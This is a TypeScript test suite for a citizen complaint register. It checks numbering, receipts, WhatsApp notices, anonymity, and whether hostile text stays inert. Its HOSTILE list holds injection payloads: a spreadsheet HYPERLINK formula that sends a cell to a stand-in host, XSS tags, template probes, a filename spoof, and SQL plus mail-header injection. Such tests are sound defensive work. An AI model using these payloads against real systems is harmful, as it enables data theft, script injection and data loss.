import samples from '../fixtures/aduan-samples.json';
import {LEDGER_TABS} from '../../src/data/ledger-tabs';
import type {ComplaintView} from '../../src/domain/desk/protocol';
import {openLedger} from '../../tools/office/register';
import {likelyChannel, whatsAppLink} from '../../src/ui/desk/core/whatsapp';
import {mailsOf, openTestOffice, type TestOffice} from './office';

interface Sample {
  id: string;
  kanal: string;
  judul: string | null;
  isi: string;
  pelapor: {
    nama?: string;
    email?: string;
    hp?: string;
    nik?: string;
    alamat?: string;
    akun?: string;
  };
  anonim: boolean;
  rahasia: boolean;
}

const SAMPLES = samples.samples as Sample[];
const WITHOUT_MAIL = SAMPLES.filter(({pelapor}) => !pelapor.email);

/** Texts that other systems interpret. Each goes through every free field. */
const HOSTILE = [
  '=HYPERLINK("https://x.example/?"&A1,"klik")',
  '+62810000000',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '<?= 1 + 1 ?> ${7*7} {{7*7}}',
  'Lampu 🔥 padam ꦗꦮ עברית\u202eexe.gpj',
  "'; DROP TABLE register; --\r\nBcc: semua@example.com",
];

function answersOf({kanal, judul, isi, pelapor, anonim, rahasia}: Sample): Record<string, string> {
  const answers = {
    'Nama lengkap': pelapor.nama,
    'Alamat surel': pelapor.email,
    'Nomor HP atau WhatsApp': pelapor.hp,
    'Alamat tempat tinggal': pelapor.alamat,
    NIK: pelapor.nik,
    'Aduan ini disampaikan melalui': kanal,
    'Akun media sosial': pelapor.akun,
    'Judul aduan': judul,
    'Isi aduan': isi,
    'Samarkan nama saya (anonim)': anonim ? 'Ya' : undefined,
    'Rahasiakan aduan ini': rahasia ? 'Ya' : undefined,
  };
  return Object.fromEntries(
    Object.entries(answers).filter((pair): pair is [string, string] => Boolean(pair[1])),
  );
}

describe('I1, I5, R1 the 24 complaints of the samples', () => {
  let office: TestOffice;
  let token: string;
  let views: ComplaintView[];

  beforeAll(async () => {
    office = await openTestOffice();
    SAMPLES.forEach(sample => office.submit(answersOf(sample)));
    token = office.signIn('ayu.admin@example.com');
    views = SAMPLES.map((_sample, index) =>
      office.ask<ComplaintView>({do: 'open', token, entry: index + 1}),
    );
  });

  afterAll(() => office.world.close());

  it('get one number and one row each', () => {
    const rows = openLedger(office.world).rows('register');
    expect(rows.map(row => row[1])).toEqual(
      SAMPLES.map((_sample, index) => `ADU-2026-${String(index + 1).padStart(4, '0')}`),
    );
    const book = office.world.read({
      what: 'sheet',
      file: office.workbookId,
      range: "'Register Aduan'!A3:A",
    }) as string[][];
    expect(book.map(row => row[0])).toEqual(rows.map(row => row[1]));
  });

  /** Who asked to be hidden is looked at with a reason (R6). */
  function complainantKnown(sample: Sample, index: number): ComplaintView {
    if (!sample.anonim && !sample.rahasia) return views[index]!;
    expect(views[index]!.complainant).toMatchObject({name: '', email: '', phone: ''});
    const id = `sample-${index}`;
    return office.ask({do: 'openIdentity', token, id, entry: index + 1, reason: 'Memeriksa isian'});
  }

  it('keep every word of the citizen', () => {
    SAMPLES.forEach((sample, index) => {
      const {title, body, complainant} = complainantKnown(sample, index);
      expect([title, body, complainant.name]).toEqual([
        sample.judul ?? '',
        sample.isi,
        sample.pelapor.nama ?? '',
      ]);
    });
  });

  it('are acknowledged by mail, or stand in Belum diberi tahu', () => {
    const told = SAMPLES.map((sample, index) => {
      const {complaint} = views[index]!;
      const receipt = sample.pelapor.email
        ? mailsOf(office.world, sample.pelapor.email).some(mail =>
            mail.subject.includes(complaint.register),
          )
        : false;
      const waiting = complaint.notices.some(notice => notice.kind === 'receipt' && !notice.told);
      return [sample.id, receipt, waiting];
    });
    expect(told).toEqual(
      SAMPLES.map(({id, pelapor}) => [id, Boolean(pelapor.email), !pelapor.email]),
    );
    expect(WITHOUT_MAIL).toHaveLength(13);
  });

  it('are told in two taps where there is no e-mail, and stand in Belum diberi tahu until then', () => {
    const untold = () =>
      office
        .inbox(token)
        .items.filter(item => item.untold > 0)
        .map(item => item.entry);
    const before = untold();
    expect(before).toHaveLength(WITHOUT_MAIL.length);
    const taps = before.map(entry => {
      const view = office.ask<ComplaintView>({do: 'open', token, entry});
      const text = view.noticeTexts[0]!;
      expect(text).toContain(view.complaint.register);
      const link = whatsAppLink(view.complainant.phone, text);
      // Where there is no number to write to, the text is copied to where the complaint came from.
      const taps = [link ? 'WhatsApp' : 'Salin', 'Sudah diberi tahu'];
      const told = {type: 'tell', notice: 0, how: likelyChannel(view)} as const;
      expect(office.act(token, view, told).complaint.notices[0]!.told).toMatchObject({
        by: 'ayu.admin@example.com',
      });
      return taps.length;
    });
    expect(Math.max(...taps)).toBeLessThanOrEqual(2);
    expect(untold()).toEqual([]);
  });

  it('hide who asked to be hidden', () => {
    const book = office.world.read({
      what: 'sheet',
      file: office.workbookId,
      range: "'Register Aduan'!A3:P",
    }) as string[][];
    SAMPLES.forEach((sample, index) => {
      if (sample.anonim || sample.rahasia) expect(book[index]![4]).toBe('Dirahasiakan');
    });
  });
});

describe('a text that other systems would interpret', () => {
  let office: TestOffice;

  beforeAll(async () => {
    office = await openTestOffice();
  });

  afterAll(() => office.world.close());

  it.each(HOSTILE)('%j arrives unchanged and harmless in sheet, mail and page', sent => {
    // But for signs that turn the direction of writing.
    const text = sent.replaceAll('\u202e', '');
    const address = 'sari.contoh@example.com';
    office.submit({
      'Nama lengkap': sent,
      'Alamat surel': address,
      'Judul aduan': sent,
      'Isi aduan': sent,
      NIK: sent,
    });
    const entry = openLedger(office.world).rows('register').length;
    const token = office.signIn('ayu.admin@example.com');
    const view = office.ask<ComplaintView>({do: 'open', token, entry});
    expect([view.title, view.body, view.complainant.name]).toEqual([text, text, text]);
    const receipt = mailsOf(office.world, address).at(-1)!;
    expect(receipt.subject).toContain(view.complaint.register);
    expect(receipt.html).not.toMatch(/<script|<img/);
    expect(mailsOf(office.world, 'semua@example.com')).toEqual([]);
    const {sheets} = office.world.services;
    const {id} = openLedger(office.world);
    for (const file of [id, office.workbookId]) {
      const titles =
        file === id ? Object.values(LEDGER_TABS).map(tab => tab.title) : ['Register Aduan'];
      for (const title of titles) {
        const shown =
          sheets.valuesGet(office.email, file, title, {valueRenderOption: 'FORMULA'}).values ?? [];
        const read =
          sheets.valuesGet(office.email, file, title, {valueRenderOption: 'FORMATTED_VALUE'})
            .values ?? [];
        expect(shown).toEqual(read);
      }
    }
    // The sign-in code may be asked for once a minute.
    office.world.advance(office.world.clock.now() + 60_000);
  });
});
